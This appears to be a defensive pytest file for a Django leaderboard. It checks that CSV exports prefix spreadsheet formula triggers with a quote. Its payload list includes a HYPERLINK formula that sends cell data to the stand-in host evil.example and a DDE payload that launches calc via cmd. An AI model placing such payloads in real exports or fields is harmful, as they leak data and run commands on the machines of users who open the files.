"""Issue 12, Medium 13: text that a spreadsheet would run as a formula is escaped in every CSV export."""
from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from leaderboard.api.csv_safety import spreadsheet_safe
from leaderboard.submissions.models import Submission, Team
from tests.security.conftest import World

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_triggers_are_quoted(text: str):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["HMR-X", "a=b", "1.5", "", "smplx (ours) - v2"])
def test_ordinary_text_is_unchanged(text: str):
    assert spreadsheet_safe(text) == text


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_exports_escape_user_chosen_text(world: World):
    owner = world.users["owner"]
    owner.username = "@owner"  # Django's username validator allows a leading @, + or -
    owner.save()
    team = Team.objects.create(name="+team")
    team.members.add(owner)
    Submission.objects.filter(pk=world.submission.pk).update(
        method_name=PAYLOADS[0], team=team, is_public=True, paper_url="https://example.org/=x", code_url="")
    slug = world.benchmark.slug
    for url in ("/api/v1/leaderboard/?format=csv", f"/api/v1/leaderboard/{slug}/?format=csv", "/?format=csv",
                f"/benchmarks/{slug}/?format=csv"):
        rows = csv_rows(Client().get(url))
        assert rows, url
        row = next(r for r in rows if r["id"] == str(world.submission.uuid))
        assert row["method"] == "'" + PAYLOADS[0], url
        assert row["owner"] == "'@owner" and row["team"] == "'+team", url
        assert row["paper_url"] == "https://example.org/=x", url
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, value)
